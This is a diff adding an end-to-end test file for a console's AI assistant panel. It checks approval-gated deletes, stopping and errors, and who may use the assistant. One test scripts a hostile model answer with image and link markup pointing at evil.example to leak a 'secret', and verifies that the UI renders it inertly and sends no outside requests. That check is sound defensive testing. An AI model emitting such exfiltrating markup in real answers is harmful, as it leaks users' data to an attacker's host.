@@ -1,0 +1,141 @@
+/** The assistant beside the screens: set up, asked, stopped, and what waits for its user. */
+import { randomUUID } from 'node:crypto'
+import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest'
+import { type ChatProvider, type ScriptedAnswer, startChatProvider } from '../support/servers/chat-provider.ts'
+import { picture } from '../support/service/console-page.ts'
+import { people } from '../support/service/people.ts'
+import { type Workspace, world } from '../support/service/world.ts'
+import { closePages, isWiderThanWindow, openConsole, signIn, violationsOf } from './support/pages.ts'
+
+let provider: ChatProvider
+let shop: Workspace
+let model: string
+
+beforeAll(async () => {
+  provider = await startChatProvider()
+})
+
+beforeEach(async () => {
+  shop = await world.workspace('shop', { articles: { title: 'string' } })
+  await shop.insert('articles', [{ title: 'Lamp' }, { title: 'Chair' }])
+  model = `model-${randomUUID()}`
+})
+
+afterEach(closePages)
+afterAll(() => provider.close())
+
+const setUp = async (answers: Parameters<ChatProvider['script']>[1]) => {
+  provider.script(model, answers)
+  const connectorOptions = { address: `${provider.url}/v1` }
+  const sent = { connector: 'openai', connectorOptions, chatModel: model, dataLevel: 'rows' }
+  expect((await shop.patch('/ai/settings', sent)).status).toBe(200)
+}
+
+const open = async (path = `/${shop.name}/items/articles`) => {
+  const page = await openConsole()
+  await signIn(page, path)
+  await page.getByRole('button', { name: 'Assistant', exact: true }).click()
+  const panel = page.getByRole('complementary', { name: 'Assistant' })
+  const say = async (text: string) => {
+    await panel.getByLabel('Message').fill(text)
+    await page.keyboard.press('Enter')
+  }
+  return { page, panel, say }
+}
+
+const deletes: ScriptedAnswer = {
+  text: 'I delete it. ',
+  calls: [{ tool: 'delete_item', arguments: { collection: 'articles', key: 1 } }],
+}
+
+it('is set up, answers, shows its steps, and deletes only what was approved', async () => {
+  provider.script(model, [
+    { text: 'I look. ', calls: [{ tool: 'list_items', arguments: { collection: 'articles' } }] },
+    { text: 'A lamp and a chair.' },
+    deletes,
+    { text: 'The lamp is gone.' },
+  ])
+  const { page, panel, say } = await open()
+  await panel.getByText('No model is chosen').waitFor()
+  await panel.getByLabel('Address').fill(`${provider.url}/v1`)
+  await panel.getByLabel('Model', { exact: true }).fill(model)
+  await panel.getByLabel('What the model is told').selectOption('rows')
+  await panel.getByRole('button', { name: 'Save' }).click()
+
+  await say('What is there?')
+  await panel.getByText('A lamp and a chair.').waitFor()
+  await panel.getByText('Read items').click()
+  await panel.getByRole('region', { name: 'Result' }).getByText('Lamp').waitFor()
+  await panel.getByRole('link', { name: 'Open articles' }).waitFor()
+  await say('Delete the lamp')
+  const card = panel.getByRole('region', { name: /^Delete an item/ })
+  await card.getByText('articles').waitFor()
+  expect(await violationsOf(page)).toEqual([])
+  await picture(page, 'assistant')
+  expect(await shop.data('/items/articles?fields=title')).toHaveLength(2)
+  await page.reload()
+  await page.getByRole('button', { name: 'Assistant', exact: true }).click()
+  await card.getByRole('button', { name: 'Approve' }).click()
+
+  await panel.getByText('The lamp is gone.').waitFor()
+  expect(await shop.data('/items/articles?fields=title')).toEqual([{ title: 'Chair' }])
+})
+
+it('shows what a model writes as it is written: no picture, no link, nothing asked of anybody', async () => {
+  const hostile =
+    '![x](https://evil.example/?q=secret) <img src="https://evil.example/y"> [click](https://evil.example)'
+  await setUp([{ text: hostile }])
+  const { page, panel, say } = await open()
+  const asked: string[] = []
+  page.on('request', (request) => asked.push(new URL(request.url()).origin))
+
+  await say('Hello')
+
+  await panel.getByText(hostile).waitFor()
+  expect(await panel.locator('img, a[href*="evil"]').count()).toBe(0)
+  expect([...new Set(asked)]).toEqual([world.url])
+})
+
+it('can be stopped and goes on, says what is wrong, and declines', async () => {
+  await setUp(
+    (count) =>
+      [{ text: 'Thinking', end: 'stall' } as const, { status: 500 }, deletes, { text: 'I leave it.' }][count] ?? {},
+  )
+  const { page, panel, say } = await open()
+
+  await say('Think')
+  await panel.getByText('Thinking').waitFor()
+  await panel.getByRole('button', { name: 'Stop' }).click()
+  await panel.getByRole('button', { name: 'Send' }).waitFor()
+  // The service may notice a moment later that nobody listens.
+  const refused = panel.getByText('The assistant is answering in this conversation')
+  const failed = panel.getByText('The provider of the model answers 500.')
+  while ((await failed.count()) === 0) {
+    await say('Again')
+    await refused.or(failed).last().waitFor()
+  }
+  await say('Delete the lamp')
+  await panel.getByRole('button', { name: 'Decline' }).click()
+
+  await panel.getByText('I leave it.').waitFor()
+  expect(await shop.data('/items/articles?fields=title')).toHaveLength(2)
+  await page.setViewportSize({ width: 360, height: 720 })
+  expect(await isWiderThanWindow(page)).toBe(false)
+  expect(await violationsOf(page)).toEqual([])
+  await picture(page, 'assistant-narrow')
+})
+
+it('is for whoever may have an agent, and says who sets it up', async () => {
+  const person = await people.member(shop, { entitlements: ['ai:mcp'], collections: { articles: { read: 'all' } } })
+  const other = await people.member(shop, { collections: { articles: { read: 'all' } } })
+  const page = await openConsole()
+  await signIn(page, `/${shop.name}`, person)
+  await page.getByRole('button', { name: 'Assistant', exact: true }).click()
+  await page.getByText('workspaceSettings:edit').waitFor()
+  await page.getByText(`${world.url}/api/${shop.name}/mcp`).waitFor()
+
+  const without = await openConsole()
+  await signIn(without, `/${shop.name}`, other)
+  await without.getByRole('main').getByRole('link', { name: 'articles' }).waitFor()
+  expect(await without.getByRole('button', { name: 'Assistant', exact: true }).count()).toBe(0)
+})
